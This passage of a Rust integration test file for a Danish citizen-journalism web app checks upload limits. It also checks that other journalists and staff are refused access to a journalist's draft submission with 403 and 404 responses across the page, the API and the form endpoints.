    for answer in answers.iter().filter(|answer| answer.status != 303) {
        assert_eq!(answer.status, 422);
        assert!(answer.body.contains("Mange billeder"), "the title is kept");
        assert!(answer.body.contains("Der kan højst være 10 billeder"));
    }
}

on_both_backends!(fourteen_uploads_at_once_leave_ten_photos);

/// One loader per thing: for someone who may not see a submission, its page, its server
/// function and every form answer alike. Another journalist's is forbidden (403, the server
/// function says `Forbidden`); a draft is unknown to staff (404, `NotFound`), as is one that
/// does not exist.
async fn the_page_and_the_forms_refuse_alike(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let db = app.db();
    let owner = account(Role::Journalist).create(db).await;
    let other = account(Role::Journalist)
        .name("Anden Skribent")
        .create(db)
        .await;
    let editor = account(Role::Staff).create(db).await;
    let owner_browser = app.logged_in_as(&owner).await;
    let saved = owner_browser
        .post_multipart(
            "/borgerjournalist/indsendelser/ny",
            submission_form("Kladde om gården", "Ikke færdig.", None, false, "save"),
        )
        .await;
    assert_eq!(saved.status, 303, "{}", saved.body);
    let draft = submission_id(&saved);
    let before = db.submissions().submission(draft).await.unwrap().unwrap();
    assert_eq!(before.state, SubmissionState::Draft);

    let intruder = app.logged_in_as(&other).await;
    let own = format!("/borgerjournalist/indsendelser/{draft}");
    assert_eq!(intruder.get(&own).await.status, 403);
    let api = intruder
        .post_form(
            "/borgerjournalist/api/indsendelse",
            &[("id", &draft.to_string())],
        )
        .await;
    assert_eq!((api.status, api.body.as_str()), (200, "\"Forbidden\""));
    let edit = intruder
        .post_multipart(
            &own,
            submission_form("Overtaget", "Min.", None, false, "save"),
        )
        .await;
    assert_eq!(edit.status, 403);
    let comment = intruder
        .post_form(&format!("{own}/kommentar"), &[("message", "Hej")])
        .await;
    assert_eq!(comment.status, 403);

    let staff = app.logged_in_as(&editor).await;
    for id in [draft, draft + 1000] {
        let review = format!("/personale/indsendelser/{id}");
        assert_eq!(staff.get(&review).await.status, 404, "{id}");
        let api = staff
            .post_form("/personale/api/indsendelse", &[("id", &id.to_string())])
            .await;
        assert_eq!((api.status, api.body.as_str()), (200, "\"NotFound\""));
        for (step, field) in [
            ("kommentar", "message"),
            ("aendringer", "changes"),
            ("afvis", "reason"),
            ("udgiv", "heading"),
        ] {
            let answer = staff
                .post_form(
                    &format!("{review}/{step}"),
                    &[(field, "Kladde"), ("body", "x")],
                )
                .await;
            assert_eq!(answer.status, 404, "{step} of {id}");
        }
    }
    let after = db.submissions().submission(draft).await.unwrap().unwrap();
    assert_eq!(after, before, "nothing changed");
}
